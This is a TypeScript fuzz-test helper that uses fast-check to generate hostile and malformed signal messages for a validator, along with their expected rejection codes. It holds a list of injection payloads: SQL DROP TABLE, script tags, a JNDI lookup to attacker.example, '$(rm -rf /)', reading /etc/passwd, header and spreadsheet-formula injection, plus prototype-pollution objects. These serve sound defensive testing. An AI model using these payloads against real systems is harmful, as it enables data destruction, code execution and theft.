import type { RejectionCode, SignalInput } from '@atalaya/contracts';
import fc from 'fast-check';

/** The kinds of malformed and hostile signal the hostile-input suites send through every door. */
export const HOSTILE_KINDS = [
  'oversize',
  'deeply_nested',
  'prototype_pollution',
  'invalid_utf8',
  'huge_number',
  'non_finite_number',
  'injection',
  'control_characters',
  'wrong_reporter',
  'future_period',
] as const;
export type HostileKind = (typeof HOSTILE_KINDS)[number];

export interface HostileSignal {
  readonly kind: HostileKind;
  /** The message as it goes on the wire. */
  readonly raw: Buffer;
  /** The codes it may be rejected with: the first fault found, which depends on what else is wrong. */
  readonly codes: readonly RejectionCode[];
  /** Whether it is still a JSON value, so that it can be an item of an HTTP batch. */
  readonly json: boolean;
}

/** Text that means something to a database, a browser, a shell, a template engine, a log reader or a terminal. */
export const INJECTIONS = [
  "' OR '1'='1",
  "pan'); DROP TABLE observations; --",
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '$(rm -rf /)',
  '`id`',
  '../../../../etc/passwd',
  '%00%0d%0a',
  '\u0000',
  '\n{"level":60,"msg":"forged log line"}',
  '\r\nX-Injected: 1',
  '\u001b[2J\u001b[31mALERT',
  '\u202eevil\u202c',
  'ZWJ\u200djoined',
  '; ls -la',
  '=cmd|"/c calc"!A1',
] as const;

/** The signal's text fields, by their JSON path, and the codes a hostile value there is rejected with. */
const TEXT_FIELDS: readonly { path: readonly string[]; codes: readonly RejectionCode[] }[] = [
  { path: ['signalId'], codes: ['INVALID_VALUE'] },
  { path: ['reporter'], codes: ['INVALID_VALUE'] },
  { path: ['indicator'], codes: ['INVALID_VALUE'] },
  { path: ['unit'], codes: ['INVALID_VALUE'] },
  { path: ['quality'], codes: ['INVALID_VALUE'] },
  { path: ['reportedAt'], codes: ['INVALID_VALUE'] },
  { path: ['location', 'country'], codes: ['INVALID_VALUE'] },
  { path: ['location', 'admin1'], codes: ['INVALID_VALUE', 'UNKNOWN_ADMIN1'] },
  { path: ['location', 'place'], codes: ['INVALID_VALUE', 'UNKNOWN_PLACE'] },
  { path: ['location', 'corridor'], codes: ['INVALID_VALUE', 'UNKNOWN_CORRIDOR'] },
  { path: ['period', 'start'], codes: ['INVALID_VALUE'] },
  { path: ['period', 'end'], codes: ['INVALID_VALUE'] },
];

/** Free text some injections are screened as: an e-mail, a phone number or a long text is PERSONAL_DATA. */
const SCREENED: readonly RejectionCode[] = ['PERSONAL_DATA'];

function withPath(signal: unknown, path: readonly string[], value: unknown): Record<string, unknown> {
  const copy = structuredClone(signal) as Record<string, unknown>;
  let node = copy;
  for (const key of path.slice(0, -1)) {
    const child: Record<string, unknown> = { ...((node[key] as Record<string, unknown> | undefined) ?? {}) };
    node[key] = child;
    node = child;
  }
  node[path[path.length - 1]] = value;
  return copy;
}

const text = (value: unknown) => Buffer.from(JSON.stringify(value));

/**
 * Malformed and hostile variants of `base`, a valid signal of `reporter`: each a message with the codes it
 * must be rejected with. `other` is another reporting state; `today` the validators' today (YYYY-MM-DD).
 */
export function hostileSignal(
  base: SignalInput,
  context: { readonly other: string; readonly today: string },
): fc.Arbitrary<HostileSignal> {
  const id = fc.integer({ min: 0, max: 1e9 }).map((n) => `${base.signalId}-hostile-${n}`);
  const withId = (n: string) => ({ ...base, signalId: n });
  const injection = fc.oneof(
    fc.constantFrom(...INJECTIONS),
    fc.tuple(fc.constantFrom(...INJECTIONS), fc.string({ maxLength: 20 })).map(([a, b]) => a + b),
  );

  const oversize = fc
    .tuple(id, fc.integer({ min: 64 * 1024, max: 200 * 1024 }))
    .map(([n, size]): HostileSignal => ({
      kind: 'oversize',
      raw: text({ ...withId(n), padding: 'x'.repeat(size) }),
      codes: ['TOO_LARGE'],
      json: true,
    }));

  const deeplyNested = fc
    .tuple(id, fc.integer({ min: 50, max: 40_000 }), fc.constantFrom('location', 'value', 'extra'))
    .map(([n, depth, at]): HostileSignal => {
      const nested = '['.repeat(depth) + ']'.repeat(depth);
      const json = JSON.stringify(withId(n));
      const raw =
        at === 'extra'
          ? `${json.slice(0, -1)},"extra":${nested}}`
          : json.replace(at === 'value' ? /"value":\d+/ : /"location":\{[^}]*\}/, `"${at}":${nested}`);
      return {
        kind: 'deeply_nested',
        raw: Buffer.from(raw),
        codes: ['TOO_LARGE', 'TOO_DEEP'],
        json: true,
      };
    });

  const prototypePollution = fc
    .tuple(
      id,
      fc.constantFrom('__proto__', 'constructor', 'prototype'),
      fc.constantFrom('top', 'location', 'period'),
    )
    .map(([n, key, where]): HostileSignal => {
      const payload = `{"${key}":{"polluted":true,"isAdmin":true}}`;
      const json = JSON.stringify(withId(n));
      const raw =
        where === 'top'
          ? `{"${key}":${payload},${json.slice(1)}`
          : json.replace(`"${where}":{`, `"${where}":{"${key}":${payload},`);
      return { kind: 'prototype_pollution', raw: Buffer.from(raw), codes: ['UNKNOWN_FIELD'], json: true };
    });

  const invalidUtf8 = fc
    .tuple(
      id,
      fc.constantFrom(
        [0xc3, 0x28],
        [0xff],
        [0xfe, 0xfe],
        [0xed, 0xa0, 0x80],
        [0xf0, 0x28, 0x8c, 0x28],
        [0xc0, 0xaf],
        [0xe2, 0x82],
      ),
      fc.constantFrom('signalId', 'place', 'indicator'),
    )
    .map(([n, bytes, field]): HostileSignal => {
      const json = JSON.stringify(withId(n));
      const marker =
        field === 'signalId' ? `"signalId":"` : field === 'place' ? `"place":"` : `"indicator":"`;
      const at = json.indexOf(marker) + marker.length;
      const raw = Buffer.concat([
        Buffer.from(json.slice(0, at)),
        Buffer.from(bytes),
        Buffer.from(json.slice(at)),
      ]);
      return { kind: 'invalid_utf8', raw, codes: ['NOT_JSON'], json: false };
    });

  const hugeNumber = fc
    .tuple(
      id,
      fc.oneof(
        fc.double({ min: 2 ** 53, max: Number.MAX_VALUE, noNaN: true }),
        fc.constantFrom(2 ** 53 + 2, 1e21, 1.7976931348623157e308),
      ),
      fc.constantFrom('value', 'revision'),
    )
    .map(([n, huge, field]): HostileSignal => ({
      kind: 'huge_number',
      raw: text({ ...withId(n), [field]: huge }),
      codes: ['INVALID_VALUE'],
      json: true,
    }));

  const nonFinite = fc
    .tuple(
      id,
      fc.constantFrom('1e400', '-1e400', '1e999999', '123e456'),
      fc.constantFrom('value', 'revision'),
    )
    .map(([n, literal, field]): HostileSignal => {
      const json = JSON.stringify({ ...withId(n), [field]: 1 });
      const raw = json.replace(new RegExp(`"${field}":1\\b`), `"${field}":${literal}`);
      return { kind: 'non_finite_number', raw: Buffer.from(raw), codes: ['NON_FINITE_VALUE'], json: true };
    });

  const injected = fc
    .tuple(id, fc.constantFrom(...TEXT_FIELDS), injection)
    .map(([n, field, value]): HostileSignal => ({
      kind: 'injection',
      raw: text(withPath(withId(n), field.path, value)),
      codes: [...field.codes, ...SCREENED],
      json: true,
    }));

  const controls = fc
    .tuple(
      id,
      fc.constantFrom('\n', '\r', '\u0000', '\u001b[31m', '\u202e', '\u200b', '\u0085', '\t'),
      fc.string({ maxLength: 30 }),
    )
    .map(([n, control, around]): HostileSignal => ({
      kind: 'control_characters',
      raw: text({
        ...withId(n),
        seriesBreak: { kind: 'coverage', note: `${around.slice(0, 15)}${control}${around.slice(15)} more` },
      }),
      codes: ['INVALID_VALUE', ...SCREENED],
      json: true,
    }));

  const wrongReporter = fc
    .tuple(id, fc.constantFrom('other', 'unknown', 'lower'))
    .map(([n, how]): HostileSignal => {
      const reporter = how === 'other' ? context.other : how === 'unknown' ? 'XXA' : 'pan';
      return {
        kind: 'wrong_reporter',
        raw: text({ ...withId(n), reporter }),
        codes: ['REPORTER_MISMATCH', 'INVALID_VALUE', 'UNKNOWN_COUNTRY'],
        json: true,
      };
    });

  const futurePeriod = fc
    .tuple(id, fc.integer({ min: 1, max: 3_000_000 }), fc.integer({ min: 0, max: 60 }))
    .map(([n, aheadDays, lengthDays]): HostileSignal => {
      const day = (offset: number) =>
        new Date(Date.parse(`${context.today}T00:00:00Z`) + offset * 86_400_000).toISOString().slice(0, 10);
      const start = day(aheadDays);
      const end = day(aheadDays + lengthDays);
      const real = /^\d{4}-/.test(end);
      return {
        kind: 'future_period',
        raw: text({ ...withId(n), period: { start, end } }),
        // Past year 9999 a date prints as +010000-01-01, which the screen may read as a phone number.
        codes: real ? ['PERIOD_IN_FUTURE'] : ['PERIOD_IN_FUTURE', 'INVALID_VALUE', 'PERSONAL_DATA'],
        json: true,
      };
    });

  return fc.oneof(
    oversize,
    deeplyNested,
    prototypePollution,
    invalidUtf8,
    hugeNumber,
    nonFinite,
    injected,
    controls,
    wrongReporter,
    futurePeriod,
  );
}

/** A hostile signal in a line a failed test can print: its kind, codes and the start of its bytes. */
export function describeHostile(h: HostileSignal): string {
  const start = h.raw
    .subarray(0, 160)
    .toString('latin1')
    .replace(/[^\x20-\x7e]/g, (c) => `\\x${c.charCodeAt(0).toString(16)}`);
  return `${h.kind} (${h.raw.length} bytes, may be ${h.codes.join(' or ')}): ${start}${h.raw.length > 160 ? '…' : ''}`;
}
